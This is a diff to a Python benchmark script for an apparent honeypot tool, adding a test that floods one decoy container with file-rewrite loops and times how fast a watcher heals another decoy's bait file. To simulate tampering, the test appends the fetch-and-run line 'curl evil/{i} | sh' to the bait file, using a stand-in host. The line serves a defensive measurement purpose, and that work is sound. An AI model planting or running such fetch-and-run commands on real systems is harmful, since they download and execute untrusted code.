@@ -19,6 +19,11 @@ release binary and the images first.
   5. no-change plan time at 10, 50 and 100 deckies, and its slope
   6. an intruder's edit of a bait file until `deckhand watch --interval 600`
      has healed it (inotify from the host), on the 50-decky fleet
+  7. the same watch with and without a flood (issue 20): an intruder in one
+     decky running a read loop, a chmod loop, ten rewrites a second and 20 MiB of
+     new random bytes over another bait each second; side by side, watch CPU and dockerd CPU
+     (share of one core), watch's peak RSS (VmHWM), evidence growth, passes,
+     and the heal time of another decky's bait edited meanwhile
 """
 
 import argparse
@@ -180,6 +185,49 @@ def dockerd_cpu():
     return sum(int(f) for f in fields[11:15]) / os.sysconf("SC_CLK_TCK")
 
 
+def proc_cpu(pid):
+    """CPU seconds process `pid` has used (utime + stime)."""
+    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def peak_rss_kib(pid):
+    """Peak resident memory of process `pid` (VmHWM), in KiB."""
+    line = next(l for l in open(f"/proc/{pid}/status") if l.startswith("VmHWM:"))
+    return int(line.split()[1])
+
+
+def du(path):
+    """Bytes allocated under `path` (0 when it does not exist)."""
+    total = 0
+    for dirpath, _, names in os.walk(path):
+        for name in names:
+            try:
+                total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
+            except FileNotFoundError:
+                pass
+    return total
+
+
+def host_read(container, path):
+    """A file's bytes read from the host through the container's root: no engine
+    call, so the heal time is not an exec's and dockerd's CPU is not ours."""
+    pid = sh("docker", "inspect", "-f", "{{.State.Pid}}", container).strip()
+    try:
+        with open(f"/proc/{pid}/root{path}", "rb") as f:
+            return f.read()
+    except OSError:
+        return b""
+
+
+def wait_for(log, text, seconds):
+    deadline = time.time() + seconds
+    while text not in open(log).read():
+        if time.time() > deadline:
+            sys.exit(f"no {text!r} in {seconds} s:\n{open(log).read()[-5000:]}")
+        time.sleep(0.1)
+
+
 def median(xs):
     return statistics.median(xs)
 
@@ -324,6 +372,64 @@ class Bench:
             out.close()
         self.heal_times = times
 
+    def flood(self, n, seconds):
+        progress(f"7. watch with and without a flood, {seconds} s each")
+        self.write(n)
+        self.apply()
+        self.flood_rows = [self.flood_run(n, seconds, False), self.flood_run(n, seconds, True)]
+
+    def flood_run(self, n, seconds, flooded):
+        """One watch for `seconds`, flooded or not; what it cost and how fast another decky healed."""
+        target = f"{FLEET}-{decky(0)}-ssh"
+        other, (path, declared) = f"{FLEET}-{decky(n // 2)}-ssh", FILES[0][:2]
+        rewritten, big = FILES[0][0], FILES[3][0]
+        evidence = os.path.join(self.work, ".deckhand", "evidence")
+        evidence_before = du(evidence)
+        log = os.path.join(self.work, "watch-flood.log")
+        out = open(log, "w")
+        watch = subprocess.Popen([self.deckhand, "watch", "--json", "--interval", "600", "-f", self.cfg],
+                                 stdout=out, stderr=subprocess.STDOUT)
+        loops = [f"cat {rewritten} >/dev/null", f"chmod 600 {rewritten}; sleep 0.05",
+                 f"i=$((i+1)); echo x$i > {rewritten}; sleep 0.1",
+                 f"head -c 20971520 /dev/urandom > {big}; sleep 1"]
+        heals = []
+        try:
+            wait_for(log, '"status":"ended"', 60)
+            cpu0, dockerd0, t0 = proc_cpu(watch.pid), dockerd_cpu(), time.perf_counter()
+            if flooded:
+                for body in loops:
+                    sh("docker", "exec", "-d", target, "sh", "-c", f"i=0; while [ ! -e /tmp/stop ]; do {body}; done")
+            time.sleep(seconds / 4)
+            for i in range(3):
+                sh("docker", "exec", other, "sh", "-c", f"echo 'curl evil/{i} | sh' >> {path}")
+                start = time.perf_counter()
+                while host_read(other, path) != declared.encode():
+                    if time.perf_counter() - start > 60:
+                        sys.exit(f"not healed in 60 s:\n{open(log).read()[-5000:]}")
+                    time.sleep(0.05)
+                heals.append(time.perf_counter() - start)
+                time.sleep(seconds / 8)
+            time.sleep(max(0.0, seconds - (time.perf_counter() - t0)))
+            elapsed = time.perf_counter() - t0
+            row = {
+                "watch_cpu": (proc_cpu(watch.pid) - cpu0) / elapsed,
+                "dockerd_cpu": (dockerd_cpu() - dockerd0) / elapsed,
+                "rss_mib": peak_rss_kib(watch.pid) / 1024,
+                "evidence_mib": (du(evidence) - evidence_before) / 2**20,
+                "passes": open(log).read().count('"type":"pass","fleet":"' + FLEET + '","status":"started"'),
+                "heal": heals,
+                "seconds": elapsed,
+            }
+        finally:
+            if flooded:
+                sh("docker", "exec", target, "touch", "/tmp/stop", check=False)
+            watch.terminate()
+            watch.wait()
+            out.close()
+        if flooded:
+            sh("docker", "exec", target, "rm", "-f", "/tmp/stop", check=False)
+        return row
+
     def scaling(self, sizes):
         progress(f"5. no-change plan at {sizes} deckies")
         points = []
@@ -360,6 +466,8 @@ def main():
     p.add_argument("--deckies", type=int, default=50)
     p.add_argument("--big", type=int, default=500)
     p.add_argument("--quick", action="store_true", help="fewer runs per figure (a smoke run)")
+    p.add_argument("--flood-seconds", type=int, default=40, help="length of each run of figure 7")
+    p.add_argument("--only-flood", action="store_true", help="figure 7 alone")
     args = p.parse_args()
     runs = {"plan": 5, "exec": 3, "apply": 3, "add": 5, "heal": 5}
     if args.quick:
@@ -367,12 +475,21 @@ def main():
     work = tempfile.mkdtemp(prefix="deckhand-bench-")
     bench = Bench(args.deckhand, runs, work)
     cleanup()
+    if args.only_flood:
+        try:
+            bench.flood(args.deckies, args.flood_seconds)
+        finally:
+            cleanup()
+            shutil.rmtree(work, ignore_errors=True)
+        print_flood(bench.flood_rows, args.deckies)
+        return
     try:
         n = args.deckies
         bench.first_apply(n)
         bench.no_change_vs_exec(n)
         bench.add_service(n)
         bench.heal(n)
+        bench.flood(n, args.flood_seconds)
         points, slope = bench.scaling([10, n, 2 * n])
         rss_mib, big_secs = bench.big_plan(args.big)
     finally:
@@ -397,6 +514,23 @@ def main():
           f"{median(heal):.2f} s | watch through the engine | next interval (up to 600 s) | |")
     curve = ", ".join(f"{n}: {s:.3f} s" for n, s in points)
     print(f"| 5. No-change plan by fleet size ({curve}) | slope {slope * 1000:.1f} ms per decky | | | |")
+    print_flood(bench.flood_rows, args.deckies)
+
+
+def print_flood(rows, n):
+    """Figure 7: the same watch without and with a flood, side by side."""
+    quiet, flood = rows
+    print(f"\n7. watch --interval 600 on {n} deckies, {quiet['seconds']:.0f} s each; flood: one decky reading, "
+          "chmod-ing and rewriting a bait 10/s, 20 MiB over another each second\n")
+    print("| | no flood | flood | goal under flood |")
+    print("|---|---|---|---|")
+    print(f"| watch CPU (share of one core) | {quiet['watch_cpu']:.0%} | {flood['watch_cpu']:.0%} | at most 25 % |")
+    print(f"| dockerd CPU (share of one core) | {quiet['dockerd_cpu']:.0%} | {flood['dockerd_cpu']:.0%} | |")
+    print(f"| watch peak RSS (VmHWM) | {quiet['rss_mib']:.0f} MiB | {flood['rss_mib']:.0f} MiB | at most 64 MiB |")
+    print(f"| evidence growth | {quiet['evidence_mib']:.1f} MiB | {flood['evidence_mib']:.1f} MiB | under the quota, no content twice |")
+    print(f"| passes | {quiet['passes']} | {flood['passes']} | |")
+    print(f"| another decky's edit healed (median, max of 3) | {median(quiet['heal']):.2f} s, {max(quiet['heal']):.2f} s | "
+          f"{median(flood['heal']):.2f} s, {max(flood['heal']):.2f} s | within 1 s |")
 
 
 if __name__ == "__main__":
